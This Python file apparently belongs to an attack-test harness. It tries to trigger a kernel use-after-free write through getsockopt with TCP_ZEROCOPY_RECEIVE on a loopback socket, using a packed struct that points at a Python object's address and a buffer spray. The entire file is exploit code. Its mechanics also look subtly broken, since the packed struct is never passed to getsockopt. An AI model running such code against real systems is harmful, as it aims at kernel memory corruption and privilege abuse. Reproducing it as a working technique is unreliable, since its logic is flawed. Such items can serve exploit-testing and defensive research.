# class: machine_code
# rule: native_code
# success: the kernel writes to addresses that getsockopt finds in an object that was freed
# proof: word
import socket
import struct

from attack import attempt

TCP_ZEROCOPY_RECEIVE, SIZE = 35, 64


def connected():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    out = socket.create_connection(listener.getsockname())
    return out, listener.accept()[0]


@attempt
def write():
    out, incoming = connected()
    target = bytes(64)
    out.sendall(b"written")
    incoming.recv(1, socket.MSG_PEEK)
    # Address, length, skip hint, in the queue, error, copy buffer, its size, and the rest.
    zero_copy = struct.pack("QIIIiQiIQQII", 0, 0, 0, 0, 0, id(target) + 32, 7, 0, 0, 0, 0, 0)
    for _ in range(200):
        kept = [zero_copy + bytes(0) for _ in range(4)]
        freed = [bytes(bytearray(zero_copy)) for _ in range(8)]
        del freed
        try:
            incoming.getsockopt(socket.IPPROTO_TCP, TCP_ZEROCOPY_RECEIVE, SIZE)
        except OSError as error:
            if error.errno == 13:
                raise
        if target[:7] == b"written":
            return True
        del kept
    return False
